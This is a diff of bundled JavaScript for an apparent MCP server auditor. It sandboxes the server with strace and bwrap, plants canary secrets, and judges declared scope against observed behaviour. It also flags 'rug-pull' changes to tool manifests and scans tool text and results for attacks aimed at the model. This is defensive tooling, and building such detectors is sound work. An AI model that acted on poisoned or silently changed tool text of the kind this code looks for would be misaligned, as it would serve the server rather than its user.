+            for (const verdict of judgeHit(hit, { declared: true, tool: text.kind === 'tool', hostDeclared })) {
+                const where = text.kind === 'instructions' ? 'the server instructions' : `${itemLabel(text.kind, text.name)} ${(0,neutralize/* excerpt */.Kb)(text.field)}`;
+                out.push({
+                    rule: verdict.rule,
+                    subject: `${item}\0${text.field}`,
+                    severity: verdict.severity,
+                    message: `${where} ${verdict.what}: "${hit.quote}"`,
+                    phase: startup,
+                    order: [0, index],
+                    evidence: { manifestItems: [item] },
+                    traceLines: []
+                });
+            }
+        }
+    });
+    const byId = new Map(calls.map((call) => [call.id, call]));
+    results.forEach(({ callId, field, hit: found }, index) => {
+        const hit = countedCanaries(found, fileRead);
+        const call = byId.get(callId);
+        if (!call)
+            return;
+        const phase = {
+            kind: 'call',
+            call: { id: call.id, kind: call.kind, name: call.name, iteration: call.iteration, ...(call.step !== undefined ? { step: call.step } : {}) },
+            afterResponse: false
+        };
+        const answer = call.kind === 'tool' ? 'result' : call.kind === 'prompt' ? 'messages' : 'contents';
+        for (const verdict of judgeHit(hit, { declared: false, tool: false, hostDeclared })) {
+            out.push({
+                rule: verdict.rule,
+                subject: `${hit.kind}\0${field}`,
+                severity: verdict.severity,
+                message: `the ${answer} of ${itemLabel(call.kind, call.name)} (call #${call.iteration}, ${(0,neutralize/* excerpt */.Kb)(field)}) ${verdict.what}: "${hit.quote}"`,
+                phase,
+                order: [Number.MAX_SAFE_INTEGER - 1, index],
+                evidence: {
+                    manifestItems: [`${call.kind}:${call.name}`],
+                    ...(hit.kind === 'data-url' && hit.canaries.length > 0 ? { canaries: hit.canaries.map((canary) => canary.replace(/ \(\w+\)$/, '')) } : {})
+                },
+                traceLines: []
+            });
+        }
+    });
+    return out;
+}
+/** The most serious thing the text checks find in a text, for the rug-pull's message; null for none. */
+function textConcern(text) {
+    let worst = null;
+    for (const hit of scanText(text)) {
+        for (const verdict of judgeHit(hit, { declared: true, tool: true, hostDeclared: () => false })) {
+            if (!worst || (0,model/* severityRank */.qs)(verdict.severity) > (0,model/* severityRank */.qs)(worst.severity))
+                worst = verdict;
+        }
+    }
+    return worst;
+}
+
+;// CONCATENATED MODULE: ./src/rules/rug-pull-rules.ts
+// rug-pull: the manifest changed since it was pinned, or an item declared at startup changed during the
+// session. surface-change: items added or removed during the session (a surface that grows by design,
+// such as a tool that publishes a resource, is reported, not called a rug-pull). Both name the call
+// after which the server announced the change (notifications/<list>/list_changed), when it did.
+
+
+
+/** The strings a change added (its diff's `+` lines), judged by the text checks: the worst, or null. */
+function addedTextConcern(diff) {
+    if (!diff)
+        return null;
+    let worst = null;
+    for (const line of diff.split('\n')) {
+        if (!line.startsWith('+') || line.startsWith('+++'))
+            continue;
+        const quoted = /"(?:[^"\\]|\\.)*"(?=\s*,?\s*$)/.exec(line.slice(1));
+        let text = line.slice(1);
+        try {
+            if (quoted)
+                text = JSON.parse(quoted[0]);
+        }
+        catch {
+            // not a JSON string: the line as it is
+        }
+        const concern = typeof text === 'string' ? textConcern(text) : null;
+        if (concern && (0,model/* severityRank */.qs)(concern.severity) >= (0,model/* severityRank */.qs)('medium') && (!worst || (0,model/* severityRank */.qs)(concern.severity) > (0,model/* severityRank */.qs)(worst.severity)))
+            worst = concern;
+    }
+    return worst;
+}
+/** The change's severity and message, made more serious when what it added is an attack in text. */
+function withConcern(change, severity, message) {
+    const concern = change.change === 'removed' ? null : addedTextConcern(change.diff);
+    if (!concern)
+        return [severity, message];
+    const raised = severity !== 'info' && (0,model/* severityRank */.qs)(concern.severity) > (0,model/* severityRank */.qs)(severity) ? concern.severity : severity;
+    return [raised, `${message}; the new text ${concern.what} (${concern.rule})`];
+}
+function changedFields(diff) {
+    if (!diff)
+        return [];
+    const fields = new Set();
+    for (const line of diff.split('\n')) {
+        const match = /^[+-]\s*"([A-Za-z][A-Za-z0-9_]{0,40})"\s*:/.exec(line);
+        if (match && !line.startsWith('+++') && !line.startsWith('---'))
+            fields.add(match[1]);
+    }
+    return [...fields].sort();
+}
+const LIST_OF = {
+    tool: 'tools',
+    resource: 'resources',
+    resourceTemplate: 'resources',
+    prompt: 'prompts',
+    instructions: null
+};
+/**
+ * The call after which the server announced a change to `list`: its first such notification during a
+ * call (earlier ones came before the listing the session started from); shutdown when it never said.
+ */
+function announcedAfter(change, listChanged) {
+    const list = LIST_OF[change.kind];
+    const notice = list === null ? undefined : listChanged?.find((entry) => entry.list === list);
+    return notice?.phases.find((phase) => phase.kind === 'call') ?? { kind: 'shutdown' };
+}
+function afterText(phase) {
+    return phase.kind === 'call' ? `after ${(0,neutralize/* excerpt */.Kb)(phase.call.name)} #${phase.call.iteration}` : 'during the session';
+}
+function rugPullOccurrences(rugPull, listChanged) {
+    const out = [];
+    const describe = (change, when) => {
+        const name = (0,neutralize/* excerpt */.Kb)(change.name);
+        if (change.kind === 'instructions')
+            return `server instructions ${change.change === 'modified' ? 'changed' : change.change} ${when}`;
+        if (change.change === 'modified') {
+            const fields = changedFields(change.diff);
+            return `${(0,model/* surfaceLabel */.CR)(change.kind)} ${name} ${fields.length > 0 ? `${fields.join(', ')} changed` : 'changed'} ${when}`;
+        }
+        return `${(0,model/* surfaceLabel */.CR)(change.kind)} ${name} was ${change.change} ${when}`;
+    };
+    const push = (change, severity, message, phase, session, index, rule = 'rug-pull') => {
+        const item = `${change.kind}:${change.name}`;
+        out.push({
+            rule,
+            subject: `${session ? 'session ' : ''}${item}`,
+            severity,
+            message,
+            phase,
+            order: [0, index],
+            evidence: { manifestItems: [item] },
+            traceLines: []
+        });
+    };
+    if (rugPull.status === 'changed' || rugPull.status === 'accepted') {
+        const severity = rugPull.status === 'changed' ? 'high' : 'info';
+        const when = rugPull.status === 'changed' ? 'since the pinned manifest' : 'since the pinned manifest (accepted)';
+        rugPull.changes.forEach((change, i) => push(change, ...withConcern(change, severity, describe(change, when)), { kind: 'startup' }, false, i));
+    }
+    rugPull.duringSession.forEach((change, i) => {
+        const phase = announcedAfter(change, listChanged);
+        const when = afterText(phase);
+        if (change.change === 'modified' || change.kind === 'instructions')
+            return push(change, ...withConcern(change, 'high', describe(change, when)), phase, true, i);
+        push(change, ...surfaceChange(change.kind, (0,neutralize/* excerpt */.Kb)(change.name), change.change === 'added', when), phase, true, i, 'surface-change');
+    });
+    return out;
+}
+/** Items added or removed mid-session: tools and prompts reach the model, resources are data. */
+function surfaceChange(kind, name, added, when) {
+    switch (kind) {
+        case 'tool':
+            return ['medium', added ? `registered a new tool ${name} ${when}` : `withdrew the tool ${name} ${when}`];
+        case 'prompt':
+            return ['medium', added ? `registered a new prompt ${name} ${when}` : `withdrew the prompt ${name} ${when}`];
+        default:
+            return ['info', `${(0,model/* surfaceLabel */.CR)(kind)} ${name} was ${added ? 'added' : 'removed'} ${when}`];
+    }
+}
+
+;// CONCATENATED MODULE: ./src/rules/evaluate-rules.ts
+
+
+
+
+
+
+
+
+
+
+
+// Each family of rules lives in its own module (file-, network-, process-, leak-, io-uring-, rug-pull-
+// and host-containment-rules) and turns what it judges into occurrences through the shared Judge
+// (judge.ts); aggregate-findings.ts makes them findings.
+/** Declared scope (annotations, descriptions, policy) against the observed profile → findings. */
+function evaluateRules(input) {
+    const judge = new Judge(input);
+    const occurrences = [];
+    fileOccurrences(judge, occurrences);
+    networkOccurrences(judge, occurrences);
+    hostSocketOccurrences(judge, occurrences);
+    processOccurrences(judge, occurrences);
+    leftoverOccurrences(judge, occurrences);
+    leakOccurrences(judge, occurrences);
+    ioUringOccurrences(judge, occurrences);
+    occurrences.push(...rugPullOccurrences(input.rugPull, input.observed.listChanged));
+    occurrences.push(...behaviourOccurrences(input.behaviour, input.calls));
+    const readHome = new Set(input.observed.files.flatMap((file) => (file.access === 'read' && file.homePath ? [file.homePath] : [])));
+    occurrences.push(...serverTextOccurrences(input.manifest, input.calls, input.resultText, (id) => readHome.has(id)));
+    return aggregate(occurrences);
+}
+
+// EXTERNAL MODULE: ./src/report/verdict.ts
+var report_verdict = __nccwpck_require__(687);
+;// CONCATENATED MODULE: ./src/report/judge-run.ts
+
+
+
+
+
+function judgeRun({ rules, probe, minCoverage, failOn, incomplete, interrupted }) {
+    // Items that appeared only at the re-listing are the surface-change rule's (rules/rug-pull-rules.ts):
+    // the session was not owed calls to what did not exist when it began.
+    const coverage = coverageOf({ ...probe, relisting: null }, minCoverage);
+    const findings = [...evaluateRules({ ...rules, calls: probe.calls }), ...coverageFindings(coverage, exitRequestedBy(probe.calls, rules.manifest)?.name)];
+    nameSteps(findings, probe.calls);
+    const { exitCode } = (0,report_verdict/* decideVerdict */.AU)({
+        findings,
+        failOn,
+        incomplete,
+        interrupted,
+        coverage: coverage.totals ? { percent: coverage.totals.percent, minPercent: minCoverage } : null
+    });
+    return { findings, coverage, exitCode };
+}
+
+;// CONCATENATED MODULE: ./src/settings/describe-settings.ts
+/**
+ * The resolved settings of one audit as one line of JSON, for the debug log: what a user needs to see to
+ * know which defaults applied. Values that may be secrets are left out — the variables passed to the
+ * server (their names only), the secrets of a client config (their count), the policy (its file) and
+ * --http-reply's body (its file).
+ */
+function describeSettings(settings) {
+    const { env, policy: _policy, configCanaries, launch, ...rest } = settings;
+    return JSON.stringify({
+        ...rest,
+        env: Object.keys(env).sort(),
+        ...(configCanaries ? { configSecrets: configCanaries.length } : {}),
+        ...(launch ? { launch: { package: `${launch.package.name}@${launch.package.version}`, root: launch.root, installPhase: launch.installPhase } } : {})
+    });
 }
 
 ;// CONCATENATED MODULE: external "node:stream"
@@ -27883,8 +29963,6 @@ class RemoteHttpTransport {
     }
 }
 
-;// CONCATENATED MODULE: external "node:child_process"
-const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
 ;// CONCATENATED MODULE: ./src/sandbox/init-config.ts
 
 
@@ -27977,59 +30055,84 @@ function witnessesFromStatus(status) {
     return witnesses;
 }
 
-;// CONCATENATED MODULE: ./src/sandbox/init-handoff.ts
+;// CONCATENATED MODULE: ./src/engine/init-status.ts
+// What the sandbox init reported in status.jsonl, read back by the engine: why a start failed, whether the
+// tracer stopped early, where an HTTP server listened.
 
 
-// How the sandbox init gets its config: as the first bytes on its stdin — a 4-byte big-endian length,
-// then that much JSON — after which the same stdin is the server's (the MCP client writes right behind
-// it). The init is started before the audit's setup has made what the config names, so it builds the
-// network sandbox meanwhile; and nothing about the server (its environment holds the canaries) is ever
-// on a command line or in a file. The init reads exactly the config's bytes and not one more: what
-// follows is the server's.
-/** A config is a few KB; anything near this is not one. */
-const MAX_CONFIG_BYTES = (/* unused pure expression or super */ null && (16 * 1024 * 1024));
-function encodeInitConfig(config) {
-    const json = Buffer.from(JSON.stringify(config), 'utf8');
-    const header = Buffer.alloc(4);
-    header.writeUInt32BE(json.length);
-    return Buffer.concat([header, json]);
-}
-const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
-/** Exactly `length` bytes from `fd` (on the thread pool, so the event loop runs on); null at end of input. */
-async function readExactly(fd, length) {
-    const buffer = Buffer.alloc(length);
-    let offset = 0;
-    while (offset < length) {
-        const got = await new Promise((resolve, reject) => read(fd, buffer, offset, length - offset, null, (error, bytesRead) => (error ? reject(error) : resolve(bytesRead)))).catch(async (error) => {
-            // a descriptor someone set non-blocking: wait for the writer
-            if (error.code === 'EAGAIN')
-                return sleep(5).then(() => -1);
-            throw error;
-        });
-        if (got === 0)
-            return null;
-        if (got > 0)
-            offset += got;
+
+
+async function readStatus(statusPath) {
+    try {
+        return (await (0,promises_.readFile)(statusPath, 'utf8'))
+            .split('\n')
+            .filter(Boolean)
+            .map((line) => JSON.parse(line));
     }
-    return buffer;
+    catch {
+        return [];
+    }
 }
-/**
- * The config from `fd`, or null when the input ends before one arrives: the audit was called off during
- * its setup (or the auditor is gone), and the init has nothing to do.
- */
-async function readInitConfig(fd) {
-    const header = await readExactly(fd, 4);
-    if (!header)
+/** Tells a sandbox/tracer failure (exit 2) from a server that would not start (exit 1). */
+async function explainStartFailure(error, statusPath, settings) {
+    const status = await readStatus(statusPath);
+    if (status.some((entry) => entry.event === 'http-not-listening')) {
+        const where = settings.http?.url ? `on ${settings.http.url}` : 'on any TCP port';
+        const seconds = Math.round(Number(status.find((entry) => entry.event === 'http-not-listening')?.message) / 1000);
+        return new errors/* ProbeStartError */.d9(`the server did not listen ${where} within ${seconds}s (--http URL says where it listens)`, error.stderrTail, error.exitCode);
+    }
+    const sandboxError = status.find((entry) => entry.event === 'error');
+    if (sandboxError || error.exitCode === INIT_EXIT_SANDBOX_FAILED || error.exitCode === INIT_EXIT_STRACE_MISSING) {
+        return new errors/* SandboxSetupError */.Pr(`the sandbox could not be set up: ${sandboxError?.message ?? 'see stderr'}`);
+    }
+    // strace's own complaints start with "strace: "; the server's stderr is everything else.
+    const straceLine = error.stderrTail.split('\n').find((line) => line.startsWith('strace: '));
+    if (straceLine && /ptrace|Operation not permitted/i.test(straceLine)) {
+        return new errors/* SandboxSetupError */.Pr(`strace could not trace the server: ${straceLine}`, 'In a container, run with --cap-add=SYS_PTRACE; on a host, check /proc/sys/kernel/yama/ptrace_scope.');
+    }
+    if (straceLine && /Can't stat|No such file|exec/.test(straceLine)) {
+        return new errors/* ConfigurationError */.j1(`the server could not be started: ${straceLine.replace(/^strace: /, '')}`);
+    }
+    return error;
+}
+/** Where the init saw an HTTP server listen (its `http-listening` line), or null. */
+function listeningOn(status) {
+    const line = status.find((entry) => entry.event === 'http-listening')?.message;
+    if (!line)
         return null;
-    const length = header.readUInt32BE(0);
-    if (length > MAX_CONFIG_BYTES)
-        throw new Error(`config of ${length} bytes refused`);
-    const json = await readExactly(fd, length);
-    if (!json)
+    try {
+        const { host, port } = JSON.parse(line);
+        return typeof host === 'string' && typeof port === 'number' ? { host, port } : null;
+    }
+    catch {
         return null;
-    return SandboxInitConfigSchema.parse(JSON.parse(json.toString('utf8')));
+    }
+}
+/** The URL the probe spoke to: the one given, or the default path on the port the init saw the server open. */
+function spokenUrl(http, status) {
+    if (http.url !== null)
+        return http.url;
+    const listening = listeningOn(status);
+    return listening ? defaultHttpUrl(http.flavour, listening.host, listening.port).href : '';
+}
+/** Why the trace ended before the server did, from the tracer's exit as the init recorded it; or null. */
+function tracerStoppedEarly(status, shutdownAt) {
+    const exit = status.find((entry) => entry.event === 'tracer-exit');
+    if (!exit?.message)
+        return null;
+    try {
+        const { signal, at } = JSON.parse(exit.message);
+        if (signal && at < shutdownAt)
+            return `the tracer was stopped by ${signal} before the audit ended; the rest of the session was not traced`;
+    }
+    catch {
+        return null;
+    }
+    return null;
 }
 
+// EXTERNAL MODULE: ./src/engine/output-files.ts
+var output_files = __nccwpck_require__(7976);
 ;// CONCATENATED MODULE: ./src/sandbox/process-tree.ts
 
 // Every process the audit starts is stopped by the audit, by pid: we walk the tree below the process
@@ -28106,13 +30209,13 @@ function serverProcesses(root) {
     const tracer = tree.find((pid) => commandName(pid) === 'strace');
     return tracer === undefined ? [] : descendantsOf(tracer);
 }
-const process_tree_sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
 async function waitForExit(pid, timeoutMs) {
     const deadline = Date.now() + timeoutMs;
     while (Date.now() < deadline) {
         if (!isAlive(pid))
             return true;
-        await process_tree_sleep(25);
+        await sleep(25);
     }
     return !isAlive(pid);
 }
@@ -28132,106 +30235,6 @@ async function stopTree(root, graceMs) {
         signal(pid, 'SIGKILL');
     signal(root, 'SIGKILL');
     await waitForExit(root, 5_000);
-}
-
-;// CONCATENATED MODULE: ./src/sandbox/launcher-process.ts
-
-
-
-
-// The process the audit talks to the server through: the sandbox launcher (sudo/unshare → init →
-// strace → bwrap → server), spawned without a shell, with stdio piped. The audit starts it as soon as it
-// knows how to build the namespaces, before its setup is done: the init — a Node process, about 0.2 s to
-// start — builds the network sandbox meanwhile and waits for its config on stdin (init-handoff.ts). The
-// probe's transport takes the process over from there. Everything that can happen before the transport
-// is there (a failed spawn, an early exit, stderr) is held here, so none of it is lost or unhandled.
-/** How long a launcher whose audit was called off gets to exit by itself before its tree is killed. */
-const CANCEL_GRACE_MS = 2_000;
-/** Only what unshare/sudo need to run; the server's own environment travels in the init config. */
-function launcher_process_launcherEnvironment(path) {
-    return { PATH: path, LANG: 'C.UTF-8' };
-}
-class launcher_process_LauncherProcess {
-    child;
-    /** resolves once the launcher runs; rejects when it could not be started */
-    spawned;
-    /** its exit code, once it has exited and its stdio have closed (null when killed by a signal) */
-    closed;
-    /** the launcher's stderr (the init's, strace's and the server's), buffered until someone reads it */
-    stderr = new external_node_stream_namespaceObject.PassThrough();
-    exit = null;
-    hasClosed = false;
-    constructor(launch, env) {
-        this.child = (0,external_node_child_process_namespaceObject.spawn)(launch.command, launch.args, { env, stdio: ['pipe', 'pipe', 'pipe'], shell: false });
-        this.spawned = new Promise((resolve, reject) => {
-            this.child.once('spawn', () => resolve());
-            this.child.once('error', reject);
-        });
-        // Awaited by the transport, maybe only after the setup: a failed spawn must not be an unhandled rejection meanwhile.
-        this.spawned.catch(() => undefined);
-        this.closed = new Promise((resolve) => this.child.once('close', (code) => {
-            this.exit = code;
-            this.hasClosed = true;
-            resolve(code);
-        }));
-        // A write after the launcher is gone (EPIPE) is seen as its exit, not thrown.
-        this.child.stdin?.on('error', () => undefined);
-        this.child.stderr?.pipe(this.stderr);
-    }
-    get pid() {
-        return this.child.pid ?? null;
-    }
-    /** the exit code once the launcher has closed, else null */
-    get exitCode() {
-        return this.exit;
-    }
-    get isClosed() {
-        return this.hasClosed;
-    }
-    /** The init's config, ahead of everything the MCP client writes to the server's stdin. */
-    sendConfig(config) {
-        this.child.stdin?.write(encodeInitConfig(config));
-    }
-    /**
-     * The audit was called off before the server started: the init's input ends before any config, so it
-     * exits (and, as the first process of its pid namespace, takes its helpers with it); its tree is killed
-     * by pid if it has not within the grace period.
-     */
-    async cancel() {
-        // never started (its spawn failed): there is nothing to stop
-        if (this.hasClosed || this.child.pid === undefined)
-            return;
-        this.child.stdin?.end();
-        const exited = await Promise.race([
-            this.closed.then(() => true),
-            new Promise((resolve) => setTimeout(() => resolve(false), CANCEL_GRACE_MS).unref())
-        ]);
-        if (!exited && this.child.pid !== undefined)
-            await stopTree(this.child.pid, 0);
-        await Promise.race([this.closed, new Promise((resolve) => setTimeout(resolve, 5_000).unref())]);
-    }
-}
-
-;// CONCATENATED MODULE: ./src/probe/probe-transport.ts
-
-
-
-/** A message (tool result, page) larger than this is dropped; its call still counts, as oversized. */
-const MAX_MESSAGE_BYTES = 8 * 1024 * 1024;
-function stdioOptions(launcher, hooks) {
-    return { launcher, maxMessageBytes: MAX_MESSAGE_BYTES, onOversized: ({ bytes }) => hooks.onOversized(bytes) };
-}
-/** MCP over the stdio of `launch`, started when the session starts (a server run without the sandbox). */
-function plainStdio(launch, path) {
-    return (hooks) => new SandboxedStdioTransport(stdioOptions(new LauncherProcess(launch, launcherEnvironment(path)), hooks));
-}
-/** MCP over the stdio of the sandbox launcher the audit started, its init config sent already. */
-function sandboxedStdio(launcher) {
-    return (hooks) => new sandboxed_stdio_transport_SandboxedStdioTransport(stdioOptions(launcher, hooks));
-}
-/** A server started in the sandbox that speaks HTTP: reached through the init's relay (sandbox/http-relay.ts). */
-function sandboxedHttp(launcher, http) {
-    return (hooks) => new SandboxedHttpTransport({ ...stdioOptions(launcher, hooks), ...http });
 }
 
 ;// CONCATENATED MODULE: ./src/probe/call-errors.ts
@@ -32064,7 +34067,7 @@ var Phase;
     Phase[Phase["Change"] = 3] = "Change";
     Phase[Phase["Destroy"] = 4] = "Destroy";
 })(Phase || (Phase = {}));
-const words = (name) => name
+const exercise_plan_words = (name) => name
     .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
     .toLowerCase()
     .split(/[^a-z0-9]+/)
@@ -32076,7 +34079,7 @@ const CHANGE = /^(edit|update|move|rename|patch|replace|merge|checkout|rebase|ch
 const DESTROY = /^(delete|remove|rm|drop|reset|clean|purge|destroy|clear|revert|prune|unlink|erase)$/;
 function phaseOf(tool) {
     const annotations = tool.annotations ?? {};
-    const parts = words(tool.name);
+    const parts = exercise_plan_words(tool.name);
     const verb = parts.find((word) => SETUP.test(word) || READ.test(word) || CREATE.test(word) || CHANGE.test(word) || DESTROY.test(word));
     if (verb !== undefined && SETUP.test(verb) && parts.some((word) => /^(dir|directory|cwd|root|workspace|path|working|repo|repository|project)$/.test(word)))
         return Phase.Setup;
@@ -32102,7 +34105,7 @@ function orderTools(tools) {
 const NEW_KEY = /^(destination|dest|target|new|to|output|out)$/;
 const SOURCE_KEY = /^(source|src|from|old)$/;
 function pathRole(key, tool) {
-    const keyWords = words(key);
+    const keyWords = exercise_plan_words(key);
     const kind = hintKind(key);
     const property = tool.inputSchema?.properties?.[key];
     const description = typeof property?.description === 'string' ? property.description.toLowerCase().slice(0, 500) : '';
@@ -32110,7 +34113,7 @@ function pathRole(key, tool) {
     if (description !== '' && !/\b(file|path|directory|folder)/.test(description) && /\b(branch|commit|tag|ref|revision|url|remote|name)\b/.test(description))
         return null;
     const describesDir = /(repositor|directory|folder|working dir)/.test(description) && !/\bfiles?\b/.test(description);
-    const toolWords = words(tool.name);
+    const toolWords = exercise_plan_words(tool.name);
     const phase = phaseOf(tool);
     const aboutDirs = toolWords.some((word) => /^(dir|dirs|directory|directories|folder|tree|ls|mkdir)$/.test(word)) || /dir/.test(tool.name.toLowerCase());
     if (keyWords.some((word) => NEW_KEY.test(word)) && (namesPath || keyWords.length === 1))
@@ -32130,7 +34133,7 @@ function pathRole(key, tool) {
         return 'dir';
     return aboutDirs ? 'dir' : 'file';
 }
-const toolWords = (tool) => words(tool.name);
+const toolWords = (tool) => exercise_plan_words(tool.name);
 /** A key whose value is a git revision by its description (a commit, a branch), unless it is an enum. */
 function revisionRole(key, tool) {
     const property = tool.inputSchema?.properties?.[key];
@@ -33595,6 +35598,161 @@ function outputSchemaMismatch(tool, response) {
     return undefined;
 }
 
+;// CONCATENATED MODULE: external "node:child_process"
+const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
+;// CONCATENATED MODULE: ./src/sandbox/init-handoff.ts
+
+
+// How the sandbox init gets its config: as the first bytes on its stdin — a 4-byte big-endian length,
+// then that much JSON — after which the same stdin is the server's (the MCP client writes right behind
+// it). The init is started before the audit's setup has made what the config names, so it builds the
+// network sandbox meanwhile; and nothing about the server (its environment holds the canaries) is ever
+// on a command line or in a file. The init reads exactly the config's bytes and not one more: what
+// follows is the server's.
+/** A config is a few KB; anything near this is not one. */
+const MAX_CONFIG_BYTES = (/* unused pure expression or super */ null && (16 * 1024 * 1024));
+function encodeInitConfig(config) {
+    const json = Buffer.from(JSON.stringify(config), 'utf8');
+    const header = Buffer.alloc(4);
+    header.writeUInt32BE(json.length);
+    return Buffer.concat([header, json]);
+}
+const init_handoff_sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+/** Exactly `length` bytes from `fd` (on the thread pool, so the event loop runs on); null at end of input. */
+async function readExactly(fd, length) {
+    const buffer = Buffer.alloc(length);
+    let offset = 0;
+    while (offset < length) {
+        const got = await new Promise((resolve, reject) => read(fd, buffer, offset, length - offset, null, (error, bytesRead) => (error ? reject(error) : resolve(bytesRead)))).catch(async (error) => {
+            // a descriptor someone set non-blocking: wait for the writer
+            if (error.code === 'EAGAIN')
+                return init_handoff_sleep(5).then(() => -1);
+            throw error;
+        });
+        if (got === 0)
+            return null;
+        if (got > 0)
+            offset += got;
+    }
+    return buffer;
+}
+/**
+ * The config from `fd`, or null when the input ends before one arrives: the audit was called off during
+ * its setup (or the auditor is gone), and the init has nothing to do.
+ */
+async function readInitConfig(fd) {
+    const header = await readExactly(fd, 4);
+    if (!header)
+        return null;
+    const length = header.readUInt32BE(0);
+    if (length > MAX_CONFIG_BYTES)
+        throw new Error(`config of ${length} bytes refused`);
+    const json = await readExactly(fd, length);
+    if (!json)
+        return null;
+    return SandboxInitConfigSchema.parse(JSON.parse(json.toString('utf8')));
+}
+
+;// CONCATENATED MODULE: ./src/sandbox/launcher-process.ts
+
+
+
+
+// The process the audit talks to the server through: the sandbox launcher (sudo/unshare → init →
+// strace → bwrap → server), spawned without a shell, with stdio piped. The audit starts it as soon as it
+// knows how to build the namespaces, before its setup is done: the init — a Node process, about 0.2 s to
+// start — builds the network sandbox meanwhile and waits for its config on stdin (init-handoff.ts). The
+// probe's transport takes the process over from there. Everything that can happen before the transport
+// is there (a failed spawn, an early exit, stderr) is held here, so none of it is lost or unhandled.
+/** How long a launcher whose audit was called off gets to exit by itself before its tree is killed. */
+const CANCEL_GRACE_MS = 2_000;
+/** Only what unshare/sudo need to run; the server's own environment travels in the init config. */
+function launcher_process_launcherEnvironment(path) {
+    return { PATH: path, LANG: 'C.UTF-8' };
+}
+class launcher_process_LauncherProcess {
+    child;
+    /** resolves once the launcher runs; rejects when it could not be started */
+    spawned;
+    /** its exit code, once it has exited and its stdio have closed (null when killed by a signal) */
+    closed;
+    /** the launcher's stderr (the init's, strace's and the server's), buffered until someone reads it */
+    stderr = new external_node_stream_namespaceObject.PassThrough();
+    exit = null;
+    hasClosed = false;
+    constructor(launch, env) {
+        this.child = (0,external_node_child_process_namespaceObject.spawn)(launch.command, launch.args, { env, stdio: ['pipe', 'pipe', 'pipe'], shell: false });
+        this.spawned = new Promise((resolve, reject) => {
+            this.child.once('spawn', () => resolve());
+            this.child.once('error', reject);
+        });
+        // Awaited by the transport, maybe only after the setup: a failed spawn must not be an unhandled rejection meanwhile.
+        this.spawned.catch(() => undefined);
+        this.closed = new Promise((resolve) => this.child.once('close', (code) => {
+            this.exit = code;
+            this.hasClosed = true;
+            resolve(code);
+        }));
+        // A write after the launcher is gone (EPIPE) is seen as its exit, not thrown.
+        this.child.stdin?.on('error', () => undefined);
+        this.child.stderr?.pipe(this.stderr);
+    }
+    get pid() {
+        return this.child.pid ?? null;
+    }
+    /** the exit code once the launcher has closed, else null */
+    get exitCode() {
+        return this.exit;
+    }
+    get isClosed() {
+        return this.hasClosed;
+    }
+    /** The init's config, ahead of everything the MCP client writes to the server's stdin. */
+    sendConfig(config) {
+        this.child.stdin?.write(encodeInitConfig(config));
+    }
+    /**
+     * The audit was called off before the server started: the init's input ends before any config, so it
+     * exits (and, as the first process of its pid namespace, takes its helpers with it); its tree is killed
+     * by pid if it has not within the grace period.
+     */
+    async cancel() {
+        // never started (its spawn failed): there is nothing to stop
+        if (this.hasClosed || this.child.pid === undefined)
+            return;
+        this.child.stdin?.end();
+        const exited = await Promise.race([
+            this.closed.then(() => true),
+            new Promise((resolve) => setTimeout(() => resolve(false), CANCEL_GRACE_MS).unref())
+        ]);
+        if (!exited && this.child.pid !== undefined)
+            await stopTree(this.child.pid, 0);
+        await Promise.race([this.closed, new Promise((resolve) => setTimeout(resolve, 5_000).unref())]);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/probe/probe-transport.ts
+
+
+
+/** A message (tool result, page) larger than this is dropped; its call still counts, as oversized. */
+const MAX_MESSAGE_BYTES = 8 * 1024 * 1024;
+function stdioOptions(launcher, hooks) {
+    return { launcher, maxMessageBytes: MAX_MESSAGE_BYTES, onOversized: ({ bytes }) => hooks.onOversized(bytes) };
+}
+/** MCP over the stdio of `launch`, started when the session starts (a server run without the sandbox). */
+function plainStdio(launch, path) {
+    return (hooks) => new SandboxedStdioTransport(stdioOptions(new LauncherProcess(launch, launcherEnvironment(path)), hooks));
+}
+/** MCP over the stdio of the sandbox launcher the audit started, its init config sent already. */
+function sandboxedStdio(launcher) {
+    return (hooks) => new sandboxed_stdio_transport_SandboxedStdioTransport(stdioOptions(launcher, hooks));
+}
+/** A server started in the sandbox that speaks HTTP: reached through the init's relay (sandbox/http-relay.ts). */
+function sandboxedHttp(launcher, http) {
+    return (hooks) => new SandboxedHttpTransport({ ...stdioOptions(launcher, hooks), ...http });
+}
+
 ;// CONCATENATED MODULE: ./src/probe/synthesize/uri-template.ts
 // Resource templates: an RFC 6570 URI template filled with values from the key-name hints.
 
@@ -33685,7 +35843,60 @@ async function runScenario(steps, run) {
     return reached;
 }
 
+;// CONCATENATED MODULE: ./src/profile/server-text/scan-result.ts
+
+// Every answer the session receives (a tool result, a prompt's messages, a resource's contents) is
+// scanned as it arrives, and only what was found is kept: at most SCAN_CHARS_PER_ANSWER characters of
+// its strings are looked at, at most HITS_PER_ANSWER hits kept per answer and HITS_PER_SESSION per session.
+const SCAN_CHARS_PER_ANSWER = 1 << 20;
+const HITS_PER_ANSWER = 20;
+const HITS_PER_SESSION = 1_000;
+const scan_result_MAX_DEPTH = 32;
+/** binary payloads: not text a model reads as such */
+const SKIPPED_KEYS = new Set(['blob', 'data', '_meta']);
+class ResultTextScanner {
+    options;
+    hits = [];
+    constructor(options = {}) {
+        this.options = options;
+    }
+    /** Scans one answer; what it finds is added to `hits`. */
+    scan(callId, response) {
+        if (this.hits.length >= HITS_PER_SESSION)
+            return;
+        let budget = SCAN_CHARS_PER_ANSWER;
+        let kept = 0;
+        const visit = (value, field, depth) => {
+            if (budget <= 0 || kept >= HITS_PER_ANSWER || depth > scan_result_MAX_DEPTH)
+                return;
+            if (typeof value === 'string') {
+                const text = value.length > budget ? value.slice(0, budget) : value;
+                budget -= text.length;
+                for (const hit of scanText(text, this.options)) {
+                    if (kept >= HITS_PER_ANSWER || this.hits.length >= HITS_PER_SESSION)
+                        return;
+                    this.hits.push({ callId, field: field || 'result', hit });
+                    kept++;
+                }
+                return;
+            }
+            if (Array.isArray(value)) {
+                value.forEach((item, index) => visit(item, `${field}[${index}]`, depth + 1));
+                return;
+            }
+            if (typeof value === 'object' && value !== null) {
+                for (const [key, item] of Object.entries(value)) {
